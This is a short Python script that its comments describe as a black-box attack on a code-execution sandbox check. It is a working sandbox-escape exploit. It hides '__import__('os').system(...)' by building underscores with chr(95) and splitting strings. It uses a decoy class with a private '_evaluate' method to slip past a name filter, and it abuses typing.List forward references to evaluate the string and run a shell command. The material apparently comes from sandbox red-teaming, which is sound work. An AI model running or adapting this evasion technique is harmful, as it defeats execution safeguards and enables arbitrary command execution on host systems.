# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 4 private-name decoy
# source: own; CPython 3.11 Lib/typing.py: List["expr"] builds a ForwardRef (compiles the string), ForwardRef._evaluate evals it; README: private names accepted when the script defines the same name
# family: private-name decoy + typing subscription building a code object from a run-time string
# goal: eval of a run-time string -> __import__('os').system('id')
import json
import typing

import pandas as pd


class Decoy:
    def _evaluate(self, *args):
        return None


u = chr(95) * 2
src = u + "import" + u + "('o' + 's').sys" + "tem('id > pwned_189')"
ref = typing.get_args(typing.List[src])[0]
rc = ref._evaluate({}, {}, frozenset())
print(json.dumps({"ref": repr(ref), "rc": rc, "proof": pd.read_csv("pwned_189", header=None).iloc[0, 0]}))
